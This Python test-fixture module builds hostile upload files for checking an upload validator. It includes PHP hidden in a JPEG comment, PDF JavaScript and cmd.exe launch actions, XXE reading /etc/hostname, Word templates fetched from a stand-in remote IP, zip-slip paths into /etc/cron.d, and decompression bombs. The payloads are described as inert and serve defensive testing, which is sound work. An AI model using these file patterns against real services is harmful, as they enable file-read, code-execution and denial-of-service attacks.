"""Bad inputs for tests: the cases of `data/attack_cases.json`, and builders of the files that they name.

Every payload is inert: scripts only write the word in MARK, and the "program" is a bare header.
"""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterable
from functools import cache
from pathlib import Path

from PIL import Image

from tests.helpers import jpeg_bytes, pdf_bytes

_FILE = json.loads((Path(__file__).parent / "data" / "attack_cases.json").read_text(encoding="utf-8"))
CASES: list[dict] = _FILE["cases"]
#: What holds for the answer to any of them, and the addresses that they name.
INVARIANTS: dict = _FILE["invariants"]
ROUTES: dict[str, str | None] = _FILE["routes"]
MARK = "PONKO-CANARY"
SCRIPT = f"<script>document.title='{MARK}'</script>".encode()
OFFICE = "application/vnd.openxmlformats-officedocument"
DOCX_MAIN = f"{OFFICE}.wordprocessingml.document.main+xml"
XLSX_MAIN = f"{OFFICE}.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cases(area: str) -> list[dict]:
    """The cases of one area, in the order of their numbers."""
    return [case for case in CASES if case["area"] == area]


def case(number: str) -> dict:
    return next(case for case in CASES if case["id"] == number)


def value(payload: object) -> str:
    """A payload written as text, {"hex": …} (bytes as a browser sends them) or {"repeat": [value, times]}."""
    if isinstance(payload, dict) and "hex" in payload:
        return bytes.fromhex(payload["hex"]).decode("utf-8", "surrogateescape")
    if isinstance(payload, dict):
        piece, times = payload["repeat"]
        return value(piece) * times
    return str(payload)


@cache
def build(name: str) -> bytes:
    """The bytes of a hostile file by the name of its builder."""
    return BUILDERS[name]()


# Parts


def png(width: int, height: int, rows: int | None = None, extra: bytes = b"") -> bytes:
    """A white 1-bit grey PNG; fewer `rows` than `height` make a false size, `extra` are further chunks."""
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    packer = zlib.compressobj(6)
    data = b"".join(packer.compress(row) for _ in range(height if rows is None else rows)) + packer.flush()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def jpeg_with_segment(marker: int, data: bytes, jpeg: bytes | None = None) -> bytes:
    jpeg = jpeg or jpeg_bytes(64, 48)
    return jpeg[:2] + struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data + jpeg[2:]


def jpeg_with_exif(orientation: int = 1, size: tuple[int, int] = (64, 48)) -> bytes:
    """A photo from 15.1 N 103.7 E, red at the left, blue at the right, with a maker and an orientation."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = MARK
    exif.get_ifd(0x8825).update({1: "N", 2: (15.0, 6.0, 0.0), 3: "E", 4: (103.0, 42.0, 0.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=MARK.encode(), quality=95)
    return out.getvalue()


def pdf(catalog: str = "", page: str = "", objects: Iterable[str] = ()) -> bytes:
    """A one-page PDF with additions to its catalogue and page, and objects numbered from 6."""
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R {page} >>",
        "<< /Length 8 >>\nstream\nq 1 w  Q\nendstream",
        "null",
        *objects,
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    begin = len(out)
    out += f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += f"trailer << /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{begin}\n%%EOF\n".encode()
    return bytes(out)


def archive(members: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for name, data in members:
            file.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def content_types(main: str = DOCX_MAIN, more: str = "application/xml") -> bytes:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        f'<Override PartName="/word/more.xml" ContentType="{more}"/></Types>'
    ).encode()


def docx(*more: tuple[str, bytes], document: bytes = b"<w:document/>", main: str = DOCX_MAIN) -> bytes:
    """A Word file as far as an upload check looks, with `more` members."""
    return archive([("[Content_Types].xml", content_types(main)), ("word/document.xml", document), *more])


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATION}/{kind}" Target="{target}" {mode}/></Relationships>'
    ).encode()


def xlsx(sheet: str, strings: str = "") -> bytes:
    """An Excel file of one sheet, with the XML of its rows and shared strings as given."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX_MAIN}"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{OFFICE}.spreadsheetml.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{OFFICE}.spreadsheetml.sharedStrings+xml"/>'
        "</Types>"
    )
    sheets = '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
    workbook = f'<workbook {main} xmlns:r="{RELATION}">{sheets}</workbook>'
    return archive(
        [
            ("[Content_Types].xml", types.encode()),
            ("_rels/.rels", relation("officeDocument", "xl/workbook.xml", "")),
            ("xl/workbook.xml", workbook.encode()),
            ("xl/_rels/workbook.xml.rels", relation("worksheet", "worksheets/sheet1.xml", "")),
            (
                "xl/worksheets/sheet1.xml",
                f"<worksheet {main}><sheetData>{sheet}</sheetData></worksheet>".encode(),
            ),
            ("xl/sharedStrings.xml", f"<sst {main}>{strings}</sst>".encode()),
        ]
    )


# Whole files


def _zeros_in_docx() -> bytes:
    """210 MB of spaces in a document of 0.9 MB, written piece by piece."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        file.writestr("[Content_Types].xml", content_types())
        with file.open("word/document.xml", "w") as part:
            part.write(b"<w:document>")
            for _ in range(210):
                part.write(b" " * 1024 * 1024)
            part.write(b"</w:document>")
    return out.getvalue()


def _nested() -> bytes:
    data = b"0" * 1_000_000
    for _ in range(4):
        data = archive((f"{number}.zip", data) for number in range(8))
    return data


BUILDERS = {
    # Plain
    "empty": lambda: b"",
    "pdf_ok": pdf_bytes,
    "png_ok": lambda: png(16, 16),
    "jpeg_ok": jpeg_bytes,
    "oversize_60mb": lambda: pdf_bytes() + b"%" + b"0" * (60 * 1024 * 1024),
    # Something else under an allowed name
    "html_plain": lambda: b"<!doctype html><title>x</title>" + SCRIPT,
    "png_html_tail": lambda: png(16, 16) + b"<html>" + SCRIPT,
    "pdf_html_head": lambda: b"<html>" + SCRIPT + b"</html>\n" + pdf_bytes(),
    "php_in_jpeg_comment": lambda: jpeg_with_segment(0xFE, f"<?php echo '{MARK}'; ?>".encode()),
    "exe_header": lambda: b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200,
    "svg_script": lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
    "svg_foreign_object": lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"'
        b' src="javascript:1"/></foreignObject></svg>'
    ),
    "xml_xslt": lambda: (
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><d>' + SCRIPT + b"</d>"
    ),
    "htaccess": lambda: b"AddType application/x-httpd-php .pdf\n",
    "eps_renamed_png": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n%%EOF\n",
    # PDF
    "pdf_javascript": lambda: pdf(
        "/OpenAction 6 0 R", objects=[f"<< /S /JavaScript /JS (app.alert('{MARK}')) >>"]
    ),
    "pdf_launch": lambda: pdf("/OpenAction 6 0 R", objects=["<< /S /Launch /F (cmd.exe) >>"]),
    "pdf_embedded_file": lambda: pdf(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        objects=[
            "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    ),
    "pdf_named_script": lambda: pdf(
        "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", objects=["<< /S /JavaScript /JS (1) >>"]
    ),
    "pdf_script_after_goto": lambda: pdf(
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>", objects=["<< /S /JavaScript /JS (1) >>"]
    ),
    "pdf_endless_actions": lambda: pdf(
        "/OpenAction 6 0 R", objects=["<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"]
    ),
    "pdf_page_script": lambda: pdf(page="/AA << /O << /S /JavaScript /JS (1) >> >>"),
    "pdf_launch_link": lambda: pdf(
        page="/Annots [6 0 R]",
        objects=["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"],
    ),
    "pdf_script_link": lambda: pdf(
        page="/Annots [6 0 R]",
        objects=["<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (1) >> >>"],
    ),
    "pdf_attached_to_page": lambda: pdf(
        page="/Annots [6 0 R]", objects=["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"]
    ),
    "pdf_with_links": lambda: pdf(
        "/OpenAction [3 0 R /Fit]",
        page="/Annots [6 0 R]",
        objects=[
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.dla.go.th/) >> >>"
        ],
    ),
    "pdf_truncated": lambda: pdf_bytes()[:180],
    "pdf_header_only": lambda: b"%PDF-1.7\n",
    "pdf_bad_xref": lambda: pdf_bytes().replace(b"startxref\n", b"startxref\n99999999999999"),
    "pdf_page_loop": lambda: pdf_bytes().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "pdf_annotations_loop": lambda: pdf(page="/Annots 6 0 R", objects=["6 0 R"]),
    # Office and archives
    "docx_ok": docx,
    "docm_macro": lambda: docx(
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "docx_hidden_macro": lambda: docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
    "docx_renamed_macro": lambda: archive(
        [
            ("[Content_Types].xml", content_types(more="application/vnd.ms-office.vbaProject")),
            ("word/document.xml", b"<w:document/>"),
            ("word/more.xml", b"<macro/>"),
        ]
    ),
    "docx_external_template": lambda: docx(
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://198.51.100.7/t.dotm"))
    ),
    "docx_external_single_quotes": lambda: docx(
        (
            "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "http://198.51.100.7/t.dotm", "TargetMode='External'"),
        )
    ),
    "docx_external_utf16": lambda: docx(
        (
            "word/_rels/settings.xml.rels",
            relation("attachedTemplate", "http://198.51.100.7/t.dotm").decode().encode("utf-16"),
        )
    ),
    "docx_external_calls_itself_hyperlink": lambda: docx(
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://198.51.100.7/hyperlink"))
    ),
    "docx_external_upper_case": lambda: docx(
        ("WORD/_RELS/SETTINGS.XML.RELS", relation("attachedTemplate", "http://198.51.100.7/t.dotm"))
    ),
    "docx_hyperlink": lambda: docx(
        ("word/_rels/document.xml.rels", relation("hyperlink", "https://www.dla.go.th/")),
        document="<?xml version='1.0'?><document>หนังสือ</document>".encode(),
    ),
    "docx_xxe": lambda: docx(
        document=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><d>&x;</d>'
    ),
    "docx_xxe_after_comment": lambda: docx(
        document=b'<?xml version="1.0"?><!--'
        + b" " * 9000
        + b'--><!DOCTYPE d SYSTEM "http://198.51.100.7/"><d/>'
    ),
    "docx_xxe_utf16": lambda: docx(
        document='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE d SYSTEM "http://198.51.100.7/"><d/>'.encode(
            "utf-16"
        )
    ),
    "docx_long_prolog": lambda: docx(document=b"<!--" + b" " * 100_000 + b"--><d/>"),
    "docx_no_xml": lambda: docx(document=b"nothing"),
    "docx_script_head": lambda: b"<html>" + SCRIPT + docx(),
    "docx_zip_bomb": _zeros_in_docx,
    "docx_types_bomb": lambda: archive(
        [
            (
                "[Content_Types].xml",
                content_types().replace(b"<Types", b"<!--" + b" " * 50_000_000 + b"--><Types", 1),
            )
        ]
    ),
    "docx_many_members": lambda: docx(*((f"f{number}.xml", b"") for number in range(5000))),
    "docx_paths_out": lambda: docx(("../../templates/base.html", SCRIPT)),
    "docx_backslash_paths": lambda: docx(("..\\..\\x.bat", b"")),
    "docx_is_a_plain_zip": lambda: archive([("a.txt", b"a")]),
    "docx_is_a_jar": lambda: archive(
        [("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe")]
    ),
    "zip_slip": lambda: archive(
        [("../../templates/base.html", SCRIPT), ("/etc/cron.d/x", b""), ("..\\..\\x.bat", b"")]
    ),
    "zip_many_members": lambda: archive((f"f{number:06}.txt", b"") for number in range(10_000)),
    "zip_nested": _nested,
    # Pictures
    "png_bomb_12k": lambda: png(12_000, 12_000),
    "png_bomb_20k": lambda: png(20_000, 20_000),
    "png_false_size": lambda: png(65_535, 65_535, rows=1),
    "png_long_strip": lambda: png(16_000_000, 1),
    "png_text_bomb": lambda: png(
        16, 16, extra=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"0" * 20_000_000))
    ),
    "jpeg_truncated": lambda: jpeg_bytes()[:200],
    "jpeg_gps": jpeg_with_exif,
    "jpeg_bad_exif": lambda: jpeg_with_segment(
        0xE1, b"Exif\0\0II*\0\x08\0\0\0\x02\0\x12\x01\x05\0\xff\xff\xff\xff\xff\xff\xff\xff" + b"\xff" * 40
    ),
    "gif_many_frames": lambda: (
        b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
        + b"\x21\xf9\x04\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0" * 50_000
        + b";"
    ),
}
